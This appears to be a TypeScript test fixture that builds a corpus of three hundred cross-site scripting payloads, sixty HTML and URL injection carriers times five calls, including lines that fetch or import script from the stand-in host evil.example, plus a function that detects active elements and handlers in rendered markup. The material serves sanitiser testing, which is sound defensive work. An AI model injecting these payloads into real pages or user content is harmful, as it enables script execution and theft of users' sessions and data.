const CALLS = [
  "alert('xss')",
  'window.hacked=1',
  'fetch(`//evil.example`)',
  'import("//evil.example/x.js")',
  'top.location=1',
];

/** Ways of making a browser run something, with a place for the call. */
const CARRIERS: readonly ((call: string) => string)[] = [
  (call) => `<script>${call}</script>`,
  (call) => `<ScRiPt\n>${call}</sCrIpT >`,
  (call) => `<script/src="data:text/javascript,${encodeURIComponent(call)}"></script>`,
  (call) => `<img src=x onerror="${call}">`,
  (call) => `<img src=x onerror=${call}//`,
  (call) => `"><svg/onload=${call}>`,
  (call) => `'><svg><script>${call}</script></svg>`,
  (call) => `<svg><animate onbegin="${call}" attributeName=x dur=1s>`,
  (call) => `<body onload="${call}">`,
  (call) => `<iframe src="javascript:${call}"></iframe>`,
  (call) => `<iframe srcdoc="<script>${call}</script>"></iframe>`,
  (call) => `<a href="javascript:${call}">看这里</a>`,
  (call) => `javascript:${call}`,
  (call) => `java\tscript:${call}`,
  (call) => `data:text/html,<script>${call}</script>`,
  (call) => `<details open ontoggle="${call}">`,
  (call) => `<input autofocus onfocus="${call}">`,
  (call) => `<video><source onerror="${call}"></video>`,
  (call) => `<math><mtext></form><form><mglyph><style></math><img src onerror=${call}>`,
  (call) => `<object data="javascript:${call}"></object>`,
  (call) => `<embed src="javascript:${call}">`,
  (call) => `<form action="javascript:${call}"><button>好</button></form>`,
  (call) => `<button formaction="javascript:${call}" form=x>好</button>`,
  (call) => `<meta http-equiv="refresh" content="0;url=javascript:${call}">`,
  (call) => `<base href="javascript:${call}//">`,
  (call) => `<link rel=stylesheet href="javascript:${call}">`,
  (call) => `<style>*{background:url("javascript:${call}")}</style>`,
  (call) => `</title><script>${call}</script>`,
  (call) => `</textarea><script>${call}</script>`,
  (call) => `</style><script>${call}</script>`,
  (call) => `--><script>${call}</script><!--`,
  (call) => `]]><script>${call}</script>`,
  (call) => `\u2028\u2029</script><script>${call}</script>`,
  (call) => `&lt;script&gt;${call}&lt;/script&gt;`,
  (call) => `&#60;img src=x onerror=${call}&#62;`,
  (call) => `%3Cscript%3E${call}%3C/script%3E`,
  (call) => `\\x3cscript\\x3e${call}\\x3c/script\\x3e`,
  (call) => `\${${call}}`,
  (call) => `{{constructor.constructor('${call}')()}}`,
  (call) => `\`-${call}-\``,
  (call) => `';${call};//`,
  (call) => `";${call};//`,
  (call) => `</script><script>${call}</script>`,
  (call) => `<x onclick="${call}" style="position:fixed;inset:0">`,
  (call) => `<marquee onstart="${call}">`,
  (call) => `<select onpointerenter="${call}"><option>`,
  (call) => `<table background="javascript:${call}">`,
  (call) => `<isindex type=image src=1 onerror=${call}>`,
  (call) => `<noscript><p title="</noscript><img src=x onerror=${call}>">`,
  (call) => `<template><script>${call}</script></template>`,
  (call) => `<a xlink:href="javascript:${call}"><text>好</text></a>`,
  (call) => `<use href="data:image/svg+xml,<svg onload=${call}>"/>`,
  (call) => `<set attributeName=onmouseover to="${call}">`,
  (call) => `<img/src/onerror=${call}>`,
  (call) => `<img src="x\u0000" onerror\u000b="${call}">`,
  (call) => `<\u0000script>${call}</script>`,
  (call) => `\u202e<script>${call}</script>\u202c`,
  (call) => `<script>${call}`,
  (call) => `<<script>${call}//<</script>`,
  (call) => `<div style="width:expression(${call})">`,
];

/** Three hundred texts that want to be a script: sixty carriers with five calls. */
export const SCRIPT_PAYLOADS: readonly string[] = CARRIERS.flatMap((carry) => CALLS.map(carry));

const ACTIVE =
  'script, iframe, object, embed, base, meta[http-equiv], link[href^="javascript" i], style, [srcdoc], form[action]';

/** What in a rendered part of a page would run: active elements, handlers, addresses with a scheme of their own. */
export function activeParts(root: ParentNode): readonly string[] {
  const found = [...root.querySelectorAll(ACTIVE)].map((element) => element.tagName);
  for (const element of root.querySelectorAll('*')) {
    for (const { name, value } of element.attributes) {
      const isHandler = name.toLowerCase().startsWith('on');
      const isScheme =
        /^(?:href|src|action|formaction|data|xlink:href)$/i.test(name) &&
        /^[\s\0]*(?:javascript|data):/i.test(value);
      if (isHandler || isScheme) found.push(`${element.tagName} ${name}`);
    }
  }
  return found;
}
